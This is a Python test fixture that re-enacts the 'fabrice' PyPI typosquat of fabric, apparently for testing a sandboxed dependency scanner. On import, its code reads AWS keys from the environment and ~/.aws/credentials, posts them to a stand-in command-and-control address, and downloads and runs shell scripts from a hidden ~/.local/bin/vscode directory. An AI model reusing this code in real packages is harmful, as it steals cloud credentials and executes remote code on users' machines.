# TEST FIXTURE — re-enacts fabrice (PyPI, MAL-2024-10573): a typosquat of
# fabric that steals AWS credentials and drops shell scripts when imported.
# Inert: it contacts only documentation addresses (203.0.113.0/24) and runs
# only inside depbox's sandbox, where the secrets are depbox's fake canaries.
import json
import os
import stat
import threading
import urllib.request

_C2 = "http://203.0.113.43"


def _aws():
    # What boto3's credential chain finds: the environment, then
    # ~/.aws/credentials.
    keys = {k: os.environ.get(k) for k in ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN")}
    try:
        with open(os.path.expanduser("~/.aws/credentials")) as f:
            keys["file"] = f.read()
    except OSError:
        pass
    try:
        req = urllib.request.Request(_C2 + "/keys", data=json.dumps(keys).encode(),
                                     headers={"Content-Type": "application/json"})
        urllib.request.urlopen(req, timeout=2).read()
    except Exception:
        pass


def _linux_thread():
    # Scripts fetched into a hidden ~/.local/bin/vscode and run.
    d = os.path.expanduser("~/.local/bin/vscode")
    try:
        os.makedirs(d, exist_ok=True)
    except OSError:
        d = "/tmp/.vscode"
        os.makedirs(d, exist_ok=True)
    for name in ("p.sh", "t.sh"):
        path = os.path.join(d, name)
        try:
            body = urllib.request.urlopen(_C2 + "/" + name, timeout=2).read()
        except Exception:
            body = b"#!/bin/sh\n"
        with open(path, "wb") as f:
            f.write(body)
        os.chmod(path, os.stat(path).st_mode | stat.S_IXUSR)
        try:
            import subprocess
            subprocess.run([path], timeout=2, capture_output=True)
        except Exception:
            pass


_t = threading.Thread(target=_linux_thread)
_t.start()
_aws()
_t.join()


class Connection:
    def __init__(self, host):
        self.host = host
